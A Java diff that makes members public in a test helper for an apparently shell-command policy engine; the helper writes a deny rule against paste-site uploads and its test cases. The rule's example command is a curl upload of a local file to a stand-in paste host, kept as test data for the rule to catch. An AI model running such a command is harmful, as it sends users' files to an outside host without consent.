@@ -7,10 +7,10 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 
 /** Writes small author rule folders for the tests: the walkthrough's paste-site rule and broken variants. */
-final class AuthorRules {
+public final class AuthorRules {
 
     /** A deny rule on uploads to a paste site, as an author would write it. */
-    static final String PASTE_RULE = """
+    public static final String PASTE_RULE = """
             package com.acme.policy;
 
             import dev.shellwarden.engine.fact.Cmd;
@@ -28,7 +28,7 @@ final class AuthorRules {
             """;
 
     /** Its examples: one where it decides, one near miss. */
-    static final String PASTE_CASES = """
+    public static final String PASTE_CASES = """
             === upload to the paste site is denied
             curl -F f=@notes.txt https://paste.example.com
             --- deny ACME0001
@@ -39,13 +39,13 @@ final class AuthorRules {
             """;
 
     /** The paste command itself. */
-    static final String PASTE_COMMAND = "curl -F f=@notes.txt https://paste.example.com";
+    public static final String PASTE_COMMAND = "curl -F f=@notes.txt https://paste.example.com";
 
     private AuthorRules() {
     }
 
     /** A rules folder under {@code root} holding {@code files} as name, content pairs. */
-    static Path folder(Path root, String... files) {
+    public static Path folder(Path root, String... files) {
         try {
             Path dir = Files.createDirectories(root.resolve("rules"));
             for (int i = 0; i < files.length; i += 2) {
@@ -60,7 +60,7 @@ final class AuthorRules {
     }
 
     /** The walkthrough folder: the paste rule and its cases. */
-    static Path paste(Path root) {
+    public static Path paste(Path root) {
         return folder(root, "acme.drl", PASTE_RULE, "acme.cases", PASTE_CASES);
     }
 }
